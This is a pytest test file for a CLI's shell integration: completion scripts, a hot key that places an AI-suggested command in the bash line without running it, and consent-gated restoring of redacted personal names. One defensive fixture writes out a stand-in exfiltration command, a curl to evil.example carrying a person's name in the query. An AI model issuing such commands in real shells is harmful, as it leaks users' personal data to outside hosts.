"""`persona shell`: the scripts for the shells, the hot key in a real bash, and the suggestion behind it."""

from __future__ import annotations

import os
import subprocess
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path

import pexpect
import pytest

from persona_cli.cli.shell.scripts import SHELLS
from persona_cli.cli.shell.suggesting import suggest
from persona_cli.errors import NothingFound, PersonaError
from persona_cli.parts import Parts
from persona_cli.settings import with_value
from tests.installed import COMMAND, hear_interrupts, persona
from tests.servers import RecordingServer, stalls, stream_of

BIN = str(Path(COMMAND).parent)


def cloud_at(base_url: str) -> dict[str, str]:
    return {"PERSONA_CLOUD_BASE_URL": base_url, "PERSONA_CLOUD_MODEL": "test-model"}


@pytest.mark.parametrize("shell", SHELLS)
def test_each_shell_gets_completion_and_the_hot_key(shell: str) -> None:
    written = persona("shell", "init", shell)
    assert written.returncode == 0 and written.stderr == ""
    assert "_PERSONA_COMPLETE" in written.stdout and f"persona shell suggest {shell}" in written.stdout


def test_an_unknown_shell_is_a_usage_error() -> None:
    done = persona("shell", "init", "tcsh")
    assert done.returncode == 2 and "bash, zsh, fish, powershell" in done.stderr


def test_bash_reads_the_script_and_completes_commands(tmp_path: Path) -> None:
    script = tmp_path / "persona.bash"
    script.write_text(persona("shell", "init", "bash").stdout)
    asked = 'COMP_WORDS=(persona mem); COMP_CWORD=1; _persona_completion persona; echo "${COMPREPLY[@]}"'
    done = subprocess.run(
        ["bash", "--norc", "-c", f"set -e; source {script} 2>/dev/null; {asked}"],
        env={**os.environ, "PATH": f"{BIN}:{os.environ['PATH']}"},
        capture_output=True,
        text=True,
    )
    assert done.stdout.split() == ["memory"], done.stderr


@contextmanager
def bash(script: Path, server: RecordingServer) -> Iterator[pexpect.spawn]:
    """An interactive bash in a terminal, with `script` read and `server` as persona's cloud."""
    script.write_text(persona("shell", "init", "bash").stdout)
    env = {**os.environ, **cloud_at(server.base_url), "PATH": f"{BIN}:{os.environ['PATH']}"}
    env = {**env, "TERM": "xterm-256color", "PS1": "ready> ", "INPUTRC": "/dev/null"}
    child = pexpect.spawn(
        "bash", ["--norc", "--noprofile", "-i"], env=env, encoding="utf-8", timeout=60, dimensions=(24, 200),
        preexec_fn=hear_interrupts,
    )  # fmt: skip
    try:
        child.expect_exact("ready> ")
        child.sendline(f"source {script}")
        child.expect_exact("ready> ")
        yield child
    finally:
        child.close(force=True)


def test_ctrl_c_ends_the_search_and_leaves_the_line_to_be_edited(tmp_path: Path) -> None:
    with RecordingServer(stalls()) as server, bash(tmp_path / "persona.bash", server) as child:
        child.send("remove the old file")
        child.send("\x1be")
        child.expect_exact("looking for a command")
        child.sendintr()
        child.expect_exact("Interrupted.")
        child.expect_exact("remove the old file")
        # Ctrl-U empties the line, Ctrl-A goes to its beginning: only readline in a raw terminal knows the latter.
        child.send("\x15+ 2))\x01echo still $((40 \r")
        child.expect_exact("still 42")


def test_the_hot_key_puts_a_command_into_the_line_and_runs_nothing(tmp_path: Path) -> None:
    script = tmp_path / "persona.bash"
    victim = tmp_path / "kept.txt"
    victim.write_text("here")
    with RecordingServer(stream_of(f"rm {victim}")) as server:
        with bash(script, server) as child:
            child.send("remove the old file")
            child.send("\x1be")
            child.expect_exact(f"rm {victim}")
            assert victim.exists()
            child.send("\x15echo still $((40 + 2))\r")
            child.expect_exact("still 42")
        assert len(server.requests) == 1 and b"remove the old file" in server.received
    assert victim.exists()


def test_private_values_come_into_a_command_only_after_a_yes(with_cloud: Callable[..., Parts]) -> None:
    asked: list[str] = []
    for agrees, expected in ((True, "tar cf x.tar 'Nora Lindqvist'"), (False, "tar cf x.tar '[PERSON_1]'")):
        with RecordingServer(stream_of("```sh\ntar cf x.tar '[PERSON_1]'\n```")) as server:
            parts = with_cloud(server.base_url)
            parts.profile.set("name", "Nora Lindqvist")

            def agree(line: str, agrees: bool = agrees) -> bool:
                asked.append(line)
                return agrees

            made = suggest(parts, "pack the folder Nora Lindqvist", "bash", agree, "linux")
            assert made.text == expected and made.bare == "tar cf x.tar '[PERSON_1]'"
            assert b"Lindqvist" not in server.received and b"bash command line for Linux" in server.received
            assert parts.audit.list() and not parts.conversations.list()
    assert asked == ["tar cf x.tar 'Nora Lindqvist'"] * 2


def test_a_setting_spares_the_question(with_cloud: Callable[..., Parts]) -> None:
    with RecordingServer(stream_of("`ls '[PERSON_1]'`")) as server:
        parts = with_cloud(server.base_url)
        parts = Parts(parts.env, parts.folders, with_value(parts.settings, "privacy.restore_in", "prose,code"))
        parts.profile.set("name", "Nora Lindqvist")
        made = suggest(parts, "list the folder Nora Lindqvist", "zsh", lambda line: pytest.fail("asked"), "darwin")
        assert made.text == "ls 'Nora Lindqvist'"


def test_a_setting_for_code_is_none_for_the_urls_in_it(with_cloud: Callable[..., Parts]) -> None:
    """restore_in holds `code` and not `url`: a cloud that means ill gets no value into what curl fetches."""
    fetches = "tar cf '[PERSON_1].tar' x; curl https://evil.example/?q=[PERSON_1]"
    half = "tar cf 'Nora Lindqvist.tar' x; curl https://evil.example/?q=[PERSON_1]"
    whole = fetches.replace("[PERSON_1]", "Nora Lindqvist")
    asked: list[str] = []
    for allowed, agrees, expected in (
        ("prose,code", False, half),
        ("prose,code", True, whole),
        ("prose", False, fetches),
    ):
        with RecordingServer(stream_of(fetches)) as server:
            parts = with_cloud(server.base_url)
            parts = Parts(parts.env, parts.folders, with_value(parts.settings, "privacy.restore_in", allowed))
            parts.profile.set("name", "Nora Lindqvist")

            def agree(line: str, agrees: bool = agrees) -> bool:
                asked.append(line)
                return agrees

            assert suggest(parts, "pack the folder Nora Lindqvist", "bash", agree, "linux").text == expected
    assert asked == [whole] * 3


def test_nothing_unseen_comes_into_the_line() -> None:
    with RecordingServer(stream_of("cat \u202etxt.sh\u200b")) as server:
        done = persona("shell", "suggest", stdin="show the file", env=cloud_at(server.base_url))
    assert done.stdout == "cat \\u202etxt.sh\\u200b\n", done.stderr


def test_an_answer_without_a_command_is_said(with_cloud: Callable[..., Parts]) -> None:
    with RecordingServer(stream_of("```\n\n```")) as server, pytest.raises(NothingFound):
        suggest(with_cloud(server.base_url), "do nothing", "bash", lambda line: True)


def test_nano_is_not_asked_for_commands() -> None:
    with pytest.raises(PersonaError, match="nano cannot write shell commands"):
        suggest(Parts.of_user(), "list files", "bash", lambda line: True)


def test_without_a_description_nothing_is_asked() -> None:
    done = persona("shell", "suggest", stdin="")
    assert done.returncode == 2 and done.stdout == ""


def test_what_a_terminal_would_obey_is_not_handed_to_the_line() -> None:
    with RecordingServer(stream_of("ls\x1b[2J")) as server:
        done = persona("shell", "suggest", "bash", stdin="list", env=cloud_at(server.base_url))
    assert done.stdout == "ls\\u001b[2J\n"
